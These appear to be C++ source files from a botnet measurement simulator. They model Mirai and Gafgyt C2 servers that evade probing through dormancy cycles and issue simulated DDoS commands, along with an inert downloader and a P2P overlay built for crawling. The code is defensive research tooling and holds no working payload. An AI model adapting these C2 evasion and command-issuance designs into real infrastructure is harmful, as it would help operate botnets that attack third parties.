  const auto cooldown = sim::Duration::seconds(static_cast<std::int64_t>(
      rng_.exponential(1.0 / static_cast<double>(cfg_.mean_dormancy.us / 1'000'000))));
  schedule_safe(cooldown, [this]() {
    dormant_ = false;
    reroll_listening();
  });
}

}  // namespace malnet::botnet
