#include "botnet/downloader.hpp"

#include "inetsim/http.hpp"

namespace malnet::botnet {

namespace {

void serve(sim::TcpConn& conn, std::map<std::string, std::uint64_t>& hits,
           std::uint64_t* total) {
  conn.on_data([&hits, total](sim::TcpConn& c, util::BytesView data) {
    const auto req = inetsim::parse_request(util::to_string(data));
    if (!req || req->method != "GET") {
      c.reset();
      return;
    }
    ++hits[req->path];
    if (total != nullptr) ++*total;
    const std::string name =
        req->path.empty() || req->path == "/" ? "loader" : req->path.substr(1);
    c.send(inetsim::ok_response(loader_script(name), "application/x-sh").serialize());
    c.close();
  });
}

}  // namespace

DownloaderServer::DownloaderServer(sim::Network& net, net::Ipv4 addr)
    : sim::Host(net, addr, "downloader") {
  tcp_listen(80, [this](sim::TcpConn& conn) { serve(conn, hits_, &total_); });
}

void DownloaderServer::attach_to(sim::Host& host,
                                 std::map<std::string, std::uint64_t>& hits) {
  host.tcp_listen(80, [&hits](sim::TcpConn& conn) { serve(conn, hits, nullptr); });
}

std::string loader_script(const std::string& loader_name) {
  return "#!/bin/sh\n# loader: " + loader_name +
         "\n# inert marker script (simulation artifact; fetches nothing)\n"
         "echo " + loader_name + "\n";
}

}  // namespace malnet::botnet
