#include "botnet/p2p_overlay.hpp"

#include "proto/p2p.hpp"

namespace malnet::botnet {

P2pNode::P2pNode(sim::Network& net, net::Ipv4 addr, net::Port port,
                 std::string node_id, double availability, util::Rng rng)
    : sim::Host(net, addr, "p2p-node"),
      port_(port),
      id_(std::move(node_id)),
      availability_(availability),
      rng_(std::move(rng)) {
  udp_bind(port_, [this](const net::Packet& p) {
    if (!rng_.chance(availability_)) return;  // churn: sometimes silent
    if (const auto ping = proto::p2p::decode_ping(p.payload)) {
      ++answered_;
      udp_send({p.src, p.src_port}, proto::p2p::encode_pong({id_, ping->txn}), port_);
      return;
    }
    if (const auto query = proto::p2p::decode_get_peers(p.payload)) {
      ++answered_;
      proto::p2p::PeersReply reply;
      reply.node_id = id_;
      reply.txn = query->txn;
      // Hand out up to 8 routing-table entries.
      for (std::size_t i = 0; i < peers_.size() && reply.peers.size() < 8; ++i) {
        reply.peers.push_back(peers_[i]);
      }
      udp_send({p.src, p.src_port}, proto::p2p::encode_peers_reply(reply), port_);
    }
  });
}

Overlay build_overlay(sim::Network& net, const OverlayConfig& cfg) {
  if (cfg.node_count < 2) throw std::invalid_argument("build_overlay: too few nodes");
  Overlay overlay;
  util::Rng rng(cfg.seed, util::fnv1a64("overlay"));

  // Residential-looking space, one node per address.
  for (int i = 0; i < cfg.node_count; ++i) {
    const net::Ipv4 addr{100, 70, static_cast<std::uint8_t>(i / 250),
                         static_cast<std::uint8_t>(i % 250 + 1)};
    std::string id;
    for (int k = 0; k < 20; ++k) {
      id.push_back(static_cast<char>(rng.uniform(33, 126)));
    }
    overlay.nodes.push_back(std::make_unique<P2pNode>(
        net, addr, cfg.port, id, cfg.availability, rng.fork("n" + std::to_string(i))));
  }

  // Ring edges guarantee connectivity; random chords add realism.
  const auto n = overlay.nodes.size();
  for (std::size_t i = 0; i < n; ++i) {
    overlay.nodes[i]->add_peer(overlay.nodes[(i + 1) % n]->endpoint());
    for (int c = 1; c < cfg.peers_per_node; ++c) {
      const auto j = static_cast<std::size_t>(rng.uniform(0, n - 1));
      if (j != i) overlay.nodes[i]->add_peer(overlay.nodes[j]->endpoint());
    }
  }

  // A captured sample typically embeds a handful of bootstrap peers.
  for (int b = 0; b < 4; ++b) {
    overlay.bootstrap.push_back(
        overlay.nodes[static_cast<std::size_t>(rng.uniform(0, n - 1))]->endpoint());
  }
  return overlay;
}

}  // namespace malnet::botnet
