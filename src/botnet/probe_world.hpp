// The active-probing study environment (§2.3b, D-PC2): six /24 subnets
// "with a history of malicious activity" containing 7 elusive C2 servers,
// a sprinkle of benign banner-serving services the prober must filter out
// (§2.6), and dark space everywhere else.
#pragma once

#include <memory>
#include <vector>

#include "botnet/c2server.hpp"
#include "inetsim/services.hpp"
#include "net/ipv4.hpp"
#include "sim/network.hpp"

namespace malnet::botnet {

/// The 12 probed ports of Table 5.
[[nodiscard]] const std::vector<net::Port>& table5_ports();

struct ProbeWorldConfig {
  std::uint64_t seed = 5;
  int subnet_count = 6;
  int c2_count = 7;
  int banner_hosts_per_subnet = 5;
  double accept_prob = 0.65;
  sim::Duration mean_dormancy = sim::Duration::hours(30);
};

struct ProbeWorld {
  std::vector<net::Subnet> subnets;
  std::vector<std::unique_ptr<C2Server>> c2s;
  std::vector<std::unique_ptr<inetsim::BannerHost>> banners;

  [[nodiscard]] std::vector<net::Endpoint> c2_endpoints() const;
};

/// Builds the environment on `net`. C2 families alternate Gafgyt/Mirai so
/// both study weapons get engagements.
[[nodiscard]] ProbeWorld build_probe_world(sim::Network& net,
                                           const ProbeWorldConfig& cfg = {});

}  // namespace malnet::botnet
