// A live Mozi-style P2P overlay: bot nodes that answer DHT pings and peer
// exchange. The paper filters P2P families out of the C2 study (§2.3a) and
// names P2P coverage as future work; this module plus core/p2p_crawl.hpp
// implements that extension — enumerating a P2P botnet's membership from
// one captured bootstrap list.
#pragma once

#include <memory>
#include <vector>

#include "sim/network.hpp"
#include "util/rng.hpp"

namespace malnet::botnet {

/// One overlay bot: answers ping and get_peers with a slice of its routing
/// table. Availability models churn (nodes answer only a fraction of the
/// time, like real residential bots).
class P2pNode : public sim::Host {
 public:
  P2pNode(sim::Network& net, net::Ipv4 addr, net::Port port, std::string node_id,
          double availability, util::Rng rng);

  void add_peer(net::Endpoint peer) { peers_.push_back(peer); }
  [[nodiscard]] const std::vector<net::Endpoint>& peers() const { return peers_; }
  [[nodiscard]] net::Endpoint endpoint() const { return {addr(), port_}; }
  [[nodiscard]] const std::string& node_id() const { return id_; }
  [[nodiscard]] std::uint64_t queries_answered() const { return answered_; }

 private:
  net::Port port_;
  std::string id_;
  double availability_;
  util::Rng rng_;
  std::vector<net::Endpoint> peers_;
  std::uint64_t answered_ = 0;
};

struct OverlayConfig {
  std::uint64_t seed = 13;
  int node_count = 60;
  int peers_per_node = 6;   // routing-table out-degree
  double availability = 0.85;
  net::Port port = 6881;
};

struct Overlay {
  std::vector<std::unique_ptr<P2pNode>> nodes;
  /// The bootstrap endpoints a captured sample would embed.
  std::vector<net::Endpoint> bootstrap;
};

/// Builds a randomly-wired connected overlay (ring + random chords).
[[nodiscard]] Overlay build_overlay(sim::Network& net, const OverlayConfig& cfg = {});

}  // namespace malnet::botnet
