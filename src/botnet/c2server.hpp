// Command-and-control server actors.
//
// Each C2Server speaks its family's wire protocol on the server side,
// registers connecting bots, answers keepalives, and issues DDoS commands
// from its attack plan to connected bots. Two behaviours central to the
// paper's findings are modelled here:
//
//  * Elusiveness (§3.2, Figure 4): the listener toggles on a duty cycle,
//    and after serving a session it goes *dormant* for an exponential
//    cooldown — which is why "91% of the time a server does not respond to
//    a second probe four hours after a successful probe".
//
//  * Attack issuance (§5): servers with a non-empty attack plan send
//    commands to each registered bot during its session, which is exactly
//    the window the pipeline's 2-hour restricted observation captures.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "profile/profile.hpp"
#include "proto/attack.hpp"
#include "proto/family.hpp"
#include "sim/network.hpp"
#include "util/rng.hpp"

namespace malnet::botnet {

struct C2ServerConfig {
  proto::Family family = proto::Family::kMirai;
  /// The profile whose framing/commands this server speaks. Null means the
  /// family's builtin profile (identical to the pre-profile behaviour).
  /// Not owned; the registry it points into must outlive the server.
  const profile::FamilyProfile* profile = nullptr;
  net::Ipv4 ip;
  net::Port port = 23;
  std::optional<std::string> domain;  // DNS-based C2s also have a name

  // Elusiveness model.
  double accept_prob = 0.65;  // P(listening) at each re-roll while not dormant
  sim::Duration toggle_period = sim::Duration::minutes(47);
  sim::Duration mean_dormancy = sim::Duration::hours(30);  // post-session cooldown

  // Attack plan: commands issued (in order) to each bot session, spread
  // over the session's first ~90 minutes.
  std::vector<proto::AttackCommand> attack_plan;
};

/// A record of one issued command (what the eavesdropping pipeline sees).
struct IssuedCommand {
  sim::SimTime time;
  proto::AttackCommand command;
};

class C2Server : public sim::Host {
 public:
  C2Server(sim::Network& net, C2ServerConfig cfg, util::Rng rng);

  [[nodiscard]] const C2ServerConfig& config() const { return cfg_; }
  [[nodiscard]] net::Endpoint endpoint() const { return {cfg_.ip, cfg_.port}; }
  [[nodiscard]] bool currently_listening() const { return tcp_listening(cfg_.port); }
  [[nodiscard]] std::uint64_t sessions_served() const { return sessions_; }
  [[nodiscard]] std::uint64_t commands_issued() const { return issued_.size(); }
  [[nodiscard]] const std::vector<IssuedCommand>& issued() const { return issued_; }

  /// Forces the listener up/down (used by tests and by the world builder
  /// at lifecycle boundaries).
  void force_listening(bool on);

  /// Fault-injection entry point: the actor dies mid-flight. All live
  /// sessions are aborted (RST, no graceful close), the listener goes down,
  /// and the server comes back after `outage` — re-rolling its duty cycle
  /// unless the crash landed inside a dormancy window.
  void crash(sim::Duration outage);

  [[nodiscard]] std::uint64_t crashes() const { return crashes_; }

 private:
  struct Session {
    std::uint64_t serial = 0;  // guards scheduled work against pointer reuse
    bool registered = false;
    std::string bot_id;
    std::size_t next_attack = 0;
    std::string rx_buffer;  // text-protocol line assembly
  };

  void arm_toggle();
  void reroll_listening();
  void on_accept(sim::TcpConn& conn);
  void on_conn_data(sim::TcpConn& conn, util::BytesView data);
  void handle_text_line(sim::TcpConn& conn, Session& s, const std::string& line);
  void handle_binary(sim::TcpConn& conn, Session& s, util::BytesView data);
  void register_bot(sim::TcpConn& conn, Session& s, std::string bot_id);
  void schedule_attacks(sim::TcpConn& conn);
  void enter_dormancy();

  C2ServerConfig cfg_;
  const profile::FamilyProfile* profile_;  // never null after construction
  util::Rng rng_;
  bool dormant_ = false;
  bool crashed_ = false;
  std::uint64_t crashes_ = 0;
  std::uint64_t sessions_ = 0;
  std::uint64_t next_serial_ = 1;
  std::map<const sim::TcpConn*, Session> sessions_state_;
  std::vector<IssuedCommand> issued_;
};

}  // namespace malnet::botnet
